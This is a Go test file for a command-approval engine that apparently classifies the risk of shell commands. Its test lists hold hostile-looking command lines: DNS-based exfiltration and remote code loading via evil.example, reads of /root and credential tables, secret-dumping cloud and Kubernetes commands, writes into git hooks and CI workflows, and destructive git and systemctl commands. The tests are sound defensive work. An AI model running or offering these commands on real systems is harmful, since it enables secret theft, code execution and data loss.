package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
)

// TestAdversary_W16_RowsThatDoMore: an option, a word or a file beside what a row allows
// makes more of the command than the row says.
func TestAdversary_W16_RowsThatDoMore(t *testing.T) {
	t.Parallel()
	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
	for _, line := range []string{
		// A file of options.
		"nm @in.txt", "objdump -d @in.txt", "readelf -a @in.txt", "size @in.txt", "clang-tidy @in.txt", "clang-format @in.txt", "ruff check @in.txt", "ktlint @in.txt", "hlint @in.txt", "jar tf x.jar @opts",
		// Unpacking beside listing.
		"xz -tdf in.xz", "xz -ldf in.xz", "bzip2 -td in.bz2", "lzma -td in.lzma", "zstd -tdf in.zst", "xz --list --decompress in.xz",
		// Functions of SQL, and names that are not spelled out.
		`sqlite3 -readonly app.db "select data from fsdir('/root')"`, `sqlite3 -readonly app.db 'select data from "fsdir"'`, `sqlite3 -readonly app.db "select * from zipfile"`,
		`sqlite3 -readonly app.db "select * from completion"`, `sqlite3 -readonly app.db "select data from sqlite_dbpage"`,
		`psql -c "select U&'!0041' uescape '!'"`, `psql -c "select * from u&\"pg!005fshadow\""`, `mysql -e "select * from mysql.user"`, `mysql -e 'select * from mysql.db'`,
		`psql -c "select * from pg_user_mappings"`, `psql -c "select umoptions from user_mapping"`, `psql -c "select * from pg_settings"`,
		// What shows secrets.
		"kubectl config view --flatten", "vercel env ls", "vercel projects ls extra", "vercel logs x", "vercel", "vercel domains rm x", "vercel list evil",
		"systemctl show -p Environment x", "systemctl show -p EnvironmentFiles x", "systemctl show --property=Id,Environment x", "systemctl show x", "systemctl show", "systemctl cat x", "systemctl status -p Environment x",
		"docker image inspect x", "docker image inspect -f '{{json .Config.Env}}' x", "docker image inspect -f '{{json .}}' x",
		"gcloud compute instances list --format json", "gcloud run services list --format=yaml", "gcloud config get-value proxy/password", "gcloud config list --all", "az containerapp list", "az containerapp list -o json",
		// git's reflog.
		"git reflog drop --all", "git reflog write refs/heads/x a b m", "git reflog frobnicate",
		// Paths within values of tools.
		"mocha -O output=/root/.bashrc", "mocha -O output=.git/hooks/pre-commit", "pylint --output-format=json:/root/x a.py", "pylint --output-format=json:.git/hooks/pre-commit a.py", "golangci-lint run --out-format json:/x", "mocha -O output=.github/workflows/a.yml", `mocha -O '{"output": "/root/x"}'`, "mysql mysql -e 'select * from user'",
		"dotnet test -flp:logfile=/root/x", "dotnet test -flp:logfile=x", "dotnet build -logger:X,./evil.dll", "dotnet build -restoreProperty:X=y", "jest --coverageReporters '[\"text\",{\"file\":\"../x\"}]'", "jest --coverageReporters ./evil.js",
		// Tools that take their verbs from elsewhere.
		"brew list ../../x", "brew info ./evil.rb", "brew info https://evil.example/x.rb", "brew deps evil/tap/x",
		"kubectl evil --help", "helm evil --help", "gh evil --help", "cargo evil --help", "docker evil --help",
		// Copies onto programs of the project.
		"cp -r e/.bin node_modules", "mv e/.bin node_modules", "cp -r e/bin .venv", "cp -r e/n node_modules", "ln -s node_modules/.bin nm", "mv e vendor/bin", "cp -r e/bin venv", "cp -r e/n/. node_modules", "cp -r e node_modules/x/../.bin", "cp -r e/lib .venv",
		// Writing beside checking.
		"prettier --check --write .github/workflows/a.yml", "shfmt -l -w .git/hooks/pre-commit", "shfmt -d --write .git/hooks/pre-commit", "isort -c --overwrite-in-place .vscode/tasks.json", "buf format -d -w .github/workflows/a.yml", "npm run build -- --dir .github/workflows",
		"dig aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.evil.example", "ping aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.cccccccccccccccc.evil.example",
		"javap jar:http://evil.example/x.jar!/A", "javap -cp http://evil.example/x.jar A", "docker compose -f https://evil.example/x.yml ps", "docker compose -f git@evil.example:x/y.git ps", "docker-compose -f git@evil.example:x/y.git config -q",
	} {
		j := judge(e, lineCall(t, line))
		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
	}
}

// TestRowsStillTell: what stands beside those lines every day.
func TestRowsStillTell(t *testing.T) {
	t.Parallel()
	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
	for _, line := range []string{
		"nm a.o", "clang-format -n a.c", "ruff check .", "jar tf x.jar", "xz -dc in.xz", "xz -t in.xz", "zstd -l in.zst", "bzip2 -dc in.bz2", "kubectl config view --minify", "vercel ls", "vercel whoami", "vercel domains ls",
		"systemctl status x", "systemctl show -p ActiveState x", "docker image inspect -f '{{.Id}}' x", "gcloud compute instances list", "gcloud config get-value project", "az vm list -o table",
		"git reflog", "git reflog show HEAD@{1}", "git reflog main", "mocha -O maxDiffSize=1", "pylint --output-format=json a.py", "golangci-lint run --out-format json", "dotnet test -c Release", "dotnet build -v q",
		"jest --coverageReporters text", "gcloud logging read x --format json", "mocha --grep 'GET /api: returns'", "brew list jq", "brew info python@3.12", "kubectl get --help", "kubectl delete --help", "helm list --help", "gh pr --help", "cargo build --help", "docker ps --help", "cp -r a b", "cp x node_modules/foo/index.js", "mkdir -p .venv/bin", "mv a/b c",
		"prettier --check src", "shfmt -d a.sh", "isort -c a.py", "buf format -d", "npm run build -- --dir dist", "dig example.com", "ping -c 1 example.com", "javap -c Foo.class", "docker compose -f docker-compose.yml ps",
	} {
		j := judge(e, lineCall(t, line))
		require.LessOrEqual(t, j.Assessment.RiskClass, approval.R2, "%s: %v", line, j.Assessment.ReasonCodes)
	}
}

// TestAdversary_W16_HelpIsNoRefusal: what may only ask for help is asked about.
func TestAdversary_W16_HelpIsNoRefusal(t *testing.T) {
	t.Parallel()
	e := engine(t, func(c *Config) { c.ExecSecurity = "full" })
	for _, line := range []string{
		"git clean --help", "git stash drop --help", "git filter-branch -h", "kubectl delete -h", "kubectl -n x delete pod --help", "docker system prune -h", "terraform destroy -h", "git prune help",
		"git reflog expire --dry-run --all", "git prune -n", "git stash drop -n",
	} {
		j := judge(e, lineCall(t, line))
		require.Equal(t, approval.R3, j.Assessment.RiskClass, "%s: %v", line, j.Assessment.ReasonCodes)
		require.NotContains(t, j.Assessment.ReasonCodes, "malformed-call", line)
	}
	for _, line := range []string{"git push --force origin help", "git clean -fdx help", "git clean -fdx -- --help", "kubectl delete ns help", "docker volume rm help", "kubectl delete ns -- --help x", "systemctl poweroff x"} {
		require.Equal(t, approval.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
	}
}
